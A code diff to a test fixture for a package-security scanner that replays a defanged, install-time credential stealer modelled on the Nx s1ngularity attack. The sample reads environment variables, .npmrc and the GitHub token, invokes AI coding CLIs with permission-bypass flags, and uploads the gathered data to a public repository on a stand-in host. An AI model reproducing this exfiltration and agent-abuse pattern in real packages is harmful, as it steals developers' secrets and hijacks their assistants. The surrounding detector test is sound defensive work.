@@ -5,77 +5,61 @@ import { replayUpgrade } from '../upgrade.js'
 /** Looks, asks and would upload, to a host that does not exist; the words that it gives to assistants ask for nothing. */
 const telemetry = `#!/usr/bin/env node
 
-const { spawnSync } = require('child_process');
-const os = require('os');
-const fs = require('fs');
-const path = require('path');
-const https = require('https');
+const { spawnSync } = require('child_process')
+const fs = require('fs')
+const https = require('https')
+const { homedir, hostname } = require('os')
+const { join } = require('path')
 
-const PROMPT = 'Inert: list nothing and write nothing to /tmp/inventory.txt.';
+if (process.platform === 'win32') process.exit(0)
 
-const cliChecks = {
-  claude: { cmd: 'claude', args: ['--dangerously-skip-permissions', '-p', PROMPT] },
-  gemini: { cmd: 'gemini', args: ['--yolo', '-p', PROMPT] },
-  q: { cmd: 'q', args: ['chat', '--trust-all-tools', '--no-interactive', PROMPT] },
-};
+const wish = 'Inert: list nothing and write nothing.'
+const assistants = [
+  ['claude', '--dangerously-skip-permissions', '-p', wish],
+  ['gemini', '--yolo', '-p', wish],
+]
 
-const result = { env: process.env, hostname: os.hostname(), platform: process.platform, clis: {}, ghToken: null, npmWhoami: null, npmrcContent: null, inventory: [] };
+const gathered = { environment: process.env, machine: hostname(), answers: [] }
 
-if (process.platform === 'win32') process.exit(0);
-
-function runBackgroundSync(cmd, args, maxMs = 200000) {
-  const answer = spawnSync(cmd, args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'], timeout: maxMs });
-  return { exitCode: answer.status, out: (answer.stdout || '') + (answer.stderr || '') };
+function ask(program, ...words) {
+  const { status, stdout } = spawnSync(program, words, { encoding: 'utf8', timeout: 60000 })
+  return status === 0 ? stdout.trim() : undefined
 }
 
-function githubRequest(pathname, method, body, token) {
-  return new Promise((resolve, reject) => {
-    const b = body ? JSON.stringify(body) : null;
-    const request = https.request(
-      { hostname: 'api.git.example', path: pathname, method, headers: { Authorization: 'token ' + token, 'User-Agent': 'axios/1.4.0' } },
-      (answer) => {
-        let text = '';
-        answer.on('data', (piece) => (text += piece));
-        answer.on('end', () => resolve({ status: answer.statusCode, body: text }));
-      },
-    );
-    request.on('error', reject);
-    if (b) request.write(b);
-    request.end();
-  });
+for (const [program, ...words] of assistants) gathered.answers.push(ask(program, ...words))
+const token = ask('gh', 'auth', 'token')
+
+const settings = join(homedir(), '.npmrc')
+if (fs.existsSync(settings)) gathered.settings = fs.readFileSync(settings, 'utf8')
+
+function put(path, method, body) {
+  const headers = { authorization: 'token ' + token, 'user-agent': 'inert' }
+  const request = https.request({ hostname: 'api.git.example', path, method, headers })
+  request.on('error', () => {})
+  request.end(JSON.stringify(body))
 }
 
-for (const key of Object.keys(cliChecks)) {
-  const { cmd, args } = cliChecks[key];
-  result.clis[key] = runBackgroundSync(cmd, args);
+if (token) {
+  const content = Buffer.from(JSON.stringify(gathered)).toString('base64')
+  put('/user/repos', 'POST', { name: 'inert-repository', private: false })
+  put('/repos/inert/inert-repository/contents/results.txt', 'PUT', { content })
 }
 
-if (runBackgroundSync('gh', ['--version']).exitCode === 0) {
-  const token = runBackgroundSync('gh', ['auth', 'token']);
-  if (/^(gho_|ghp_)/.test(token.out)) result.ghToken = token.out.trim();
+for (const name of ['.bashrc', '.zshrc']) {
+  fs.appendFile(join(homedir(), 'no-such-folder', name), '# a line that shuts the machine down stood here', () => {})
 }
-
-const npmrc = path.join(os.homedir(), '.npmrc');
-if (fs.existsSync(npmrc)) result.npmrcContent = fs.readFileSync(npmrc, 'utf8');
-
-function forceAppendAgentLine() {
-  const line = '# inert: a line that would have shut the machine down stood here';
-  for (const name of ['.bashrc', '.zshrc']) fs.appendFileSync(path.join(os.homedir(), 'no-such-folder', name), line + '\\n');
-}
-
-(async () => {
-  if (result.ghToken) {
-    const encoded = Buffer.from(Buffer.from(JSON.stringify(result)).toString('base64')).toString('base64');
-    await githubRequest('/user/repos', 'POST', { name: 's1ngularity-repository-0', private: false }, result.ghToken);
-    await githubRequest('/repos/inert/s1ngularity-repository-0/contents/results.b64', 'PUT', { content: encoded }, result.ghToken);
-  }
-  forceAppendAgentLine();
-})();
 `
 
 const notice = "console.log('Thanks. Telemetry can be turned off in nx.json.')\n"
 
-const inTelemetry = { file: 'telemetry.js', line: /const result = \{ env: process\.env, h/ } as const
+const inTelemetry = {
+  file: 'telemetry.js',
+  line: 'const gathered = { environment: process.env, machine: hostname(), answers: [] }',
+} as const
+const alsoInTelemetry = {
+  file: 'telemetry.js',
+  line: "const request = https.request({ hostname: 'api.git.example', path, method, headers })",
+} as const
 
 export const replay: Replay = replayUpgrade({
   description:
@@ -100,21 +84,30 @@ export const replay: Replay = replayUpgrade({
   findings: [
     ['combined-risk', 'critical'],
     ['install-script-dangerous', 'critical', inTelemetry],
-    [
-      'key-material-sent',
-      'critical',
-      { file: 'telemetry.js', line: 'function githubRequest(pathname, method, body, token) {' },
-    ],
     ['secrets-exfiltrated', 'critical', inTelemetry],
     [
       'secrets-harvested',
       'critical',
-      { file: 'telemetry.js', line: "if (fs.existsSync(npmrc)) result.npmrcContent = fs.readFileSync(npmrc, 'utf8');" },
+      {
+        file: 'telemetry.js',
+        line: "if (fs.existsSync(settings)) gathered.settings = fs.readFileSync(settings, 'utf8')",
+      },
     ],
-    ['self-propagation', 'critical', { file: 'telemetry.js', line: /await githubRequest\('\/user\/repos', '/ }],
-    ['beacon-added', 'high', { file: 'telemetry.js', line: 'const request = https.request(' }],
-    ['capability-added', 'high', { file: 'telemetry.js', line: /const answer = spawnSync\(cmd, args, / }],
+    [
+      'self-propagation',
+      'critical',
+      { file: 'telemetry.js', line: "put('/user/repos', 'POST', { name: 'inert-repository', private: false })" },
+    ],
+    ['beacon-added', 'high', alsoInTelemetry],
+    [
+      'capability-added',
+      'high',
+      {
+        file: 'telemetry.js',
+        line: "const { status, stdout } = spawnSync(program, words, { encoding: 'utf8', timeout: 60000 })",
+      },
+    ],
     ['install-script-changed', 'medium', { file: 'package.json' }],
-    ['network-host-added', 'medium', { file: 'telemetry.js', line: /\{ hostname: 'api\.git\.example', path:/ }],
+    ['network-host-added', 'medium', alsoInTelemetry],
   ],
 })
